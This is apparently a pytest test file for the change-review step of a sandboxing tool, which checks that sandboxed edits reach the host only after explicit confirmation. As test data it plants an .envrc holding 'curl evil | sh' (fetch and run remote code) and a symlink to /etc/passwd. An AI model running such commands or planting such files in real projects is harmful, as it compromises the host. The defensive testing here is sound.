"""What becomes of changes: nothing is applied without a clear yes, and what could run on the host needs one more."""

import io
import os
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from rich.console import Console

from stockade.cli.ui import review
from stockade.cli.ui.review import Decider
from stockade.core.errors import UsageError
from stockade.core.events import RunEvent
from stockade.runtime import sandboxes
from stockade_sandbox.overlay import prepare_layer
from stockade_sandbox.policy import FolderRule
from stockade_sandbox.results import FolderLayer


@dataclass
class Desk:
    """A folder, its layer, and a person whose answers are known."""

    host: Path
    layer: FolderLayer
    events: list[RunEvent] = field(default_factory=list)
    questions: list[str] = field(default_factory=list)
    screen: io.StringIO = field(default_factory=io.StringIO)

    @property
    def written(self) -> Path:
        assert self.layer.layer is not None
        return Path(self.layer.layer) / "copy"

    @property
    def kinds(self) -> list[str]:
        return [event.type for event in self.events]

    def work(self) -> list[review.Pending]:
        return review.pending(sandboxes.reviewer(), [self.layer])

    def decider(self, *answers: str | None) -> Decider:
        typed: Iterator[str | None] = iter(answers)

        def ask(question: str) -> str | None:
            self.questions.append(question)
            return next(typed)

        console = Console(file=self.screen, width=200, highlight=False)
        return Decider("r1", console, sandboxes.reviewer(), self.events.append, ask)


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    host = tmp_path / "demo"
    host.mkdir()
    (host / "data.csv").write_text("a\n")
    rule = FolderRule(host=str(host))
    made = prepare_layer(rule, tmp_path / "run", sandbox_uid=None, can_overlay=lambda _: "not in this test")
    desk = Desk(host, made)
    (desk.written / "count.txt").write_text("1\n")
    return desk


def test_yes_applies_and_removes_the_layer(desk: Desk) -> None:
    desk.decider("y").put(desk.work())
    assert (desk.host / "count.txt").read_text() == "1\n"
    assert desk.kinds == ["changes_applied"]
    assert not desk.written.exists()


@pytest.mark.parametrize("typed", [[""], ["n"], ["no"], [None], *([one, ""] for one in ("yep", "\x1b[A", "apply"))])
def test_whatever_is_not_a_clear_yes_keeps_everything_for_later(desk: Desk, typed: list[str | None]) -> None:
    assert desk.decider(*typed).put(desk.work()) is None
    assert len(desk.questions) == len(typed)
    assert not (desk.host / "count.txt").exists()
    assert (desk.written / "count.txt").exists()
    assert desk.kinds == []
    assert "changes kept: stockade runs diff|apply|discard r1" in desk.screen.getvalue()


@pytest.mark.parametrize("typed", ["Y ES", "use 80 Instead"])
def test_words_are_for_the_bot_and_decide_nothing(desk: Desk, typed: str) -> None:
    assert desk.decider(typed).put(desk.work()) == typed
    assert (desk.written / "count.txt").exists()
    assert desk.kinds == []


def test_x_throws_away(desk: Desk) -> None:
    desk.decider("x").put(desk.work())
    assert not desk.written.exists()
    assert not (desk.host / "count.txt").exists()
    assert desk.kinds == ["changes_discarded"]


def test_d_shows_the_diff_again_and_asks_again(desk: Desk) -> None:
    desk.decider("d", "y").put(desk.work())
    assert "+++ b/count.txt" in desk.screen.getvalue()
    assert len(desk.questions) == 2
    assert desk.kinds == ["changes_applied"]


def test_what_would_run_later_needs_a_second_yes(desk: Desk) -> None:
    (desk.written / ".envrc").write_text("curl evil | sh\n")
    desk.decider("y", "n").put(desk.work())
    assert (desk.host / "count.txt").exists()
    assert not (desk.host / ".envrc").exists()
    assert (desk.written / ".envrc").exists()
    assert "runs apply r1 --flagged" in desk.screen.getvalue()
    desk.decider("y", "y").put(desk.work())
    assert (desk.host / ".envrc").exists()
    assert not desk.written.exists()


def test_what_is_refused_is_named_and_left_out(desk: Desk) -> None:
    os.symlink("/etc/passwd", desk.written / "link")
    done = desk.decider().apply(desk.work())
    assert done.paths == ["count.txt"]
    assert [change.path for change in done.refused] == ["link"]
    assert not (desk.host / "link").is_symlink()
    assert "not applied: link: " in desk.screen.getvalue()


def test_a_conflict_writes_nothing_and_names_the_way_out(desk: Desk) -> None:
    (desk.host / "count.txt").write_text("mine\n")
    with pytest.raises(UsageError) as caught:
        desk.decider().apply(desk.work())
    assert "count.txt" in caught.value.message
    assert caught.value.hint is not None
    assert "force" in caught.value.hint
    assert "changes kept: stockade runs diff|apply|discard r1" in desk.screen.getvalue()
    assert (desk.host / "count.txt").read_text() == "mine\n"
    assert desk.kinds == []
    desk.decider().apply(desk.work(), force=True)
    assert (desk.host / "count.txt").read_text() == "1\n"


def test_the_drawing_marks_what_to_look_at_and_what_is_refused(desk: Desk) -> None:
    (desk.written / ".envrc").write_text("x\n")
    os.symlink("/etc/passwd", desk.written / "link")
    (desk.written / "a\x1b[2Jb").write_text("\x1b[2J\n")
    console = Console(file=desk.screen, width=200, highlight=False)
    review.draw(console, sandboxes.reviewer(), desk.work())
    text = desk.screen.getvalue()
    assert " A .envrc +1 -0  look first: " in text
    assert "refused: " in text
    assert "4 files changed, 3 lines added, 0 removed; 1 to look at first; 1 refused" in text
    assert "\x1b" not in text


def test_of_very_many_files_the_first_are_drawn_and_all_that_are_flagged(desk: Desk) -> None:
    (desk.written / "many").mkdir()
    for number in range(500):
        (desk.written / "many" / f"{number:03}").write_text("x\n")
    (desk.written / "zzz").mkdir()
    (desk.written / "zzz" / ".envrc").write_text("x\n")
    console = Console(file=desk.screen, width=200, highlight=False)
    review.draw(console, sandboxes.reviewer(), desk.work())
    text = desk.screen.getvalue()
    assert "more files not shown ...]" in text
    assert "more files not listed ...]" in text
    assert " A zzz/.envrc +1 -0  look first: " in text
    assert len(text.splitlines()) < 700


def test_a_long_diff_is_clipped(desk: Desk) -> None:
    (desk.written / "long.txt").write_text("".join(f"{number}\n" for number in range(1000)))
    console = Console(file=desk.screen, width=200, highlight=False)
    review.draw(console, sandboxes.reviewer(), desk.work())
    assert "lines not shown ...]" in desk.screen.getvalue()
    assert len(desk.screen.getvalue().splitlines()) < 200
